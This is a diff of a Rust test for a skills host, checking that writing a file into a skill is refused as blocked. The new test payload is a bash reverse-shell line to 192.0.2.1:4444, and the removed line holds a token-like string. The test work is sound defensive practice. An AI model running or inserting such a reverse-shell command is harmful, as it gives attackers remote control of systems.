@@ -146,12 +146,12 @@ fn a_host_installs_runs_edits_takes_back_and_switches_off() {
     );
     let view = test.home().join("users/default/skills_view/custom/sender");
     assert!(view.join("references/how.md").is_file());
-    let key = "ghp_aB3dE5gH7jK9mN2pQ4sT6vW8xZ1cF0rLaB3d";
+    let hostile = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n";
     let refused = seen.run(
         &test,
         1,
-        &["edit", "write-file", "sender", "references/key.md"],
-        key,
+        &["edit", "write-file", "sender", "scripts/key.sh"],
+        hostile,
     );
     assert_eq!(refused["refused"]["kind"], "blocked");
     let history = seen.run(&test, 0, &["edit", "history", "sender"], "");
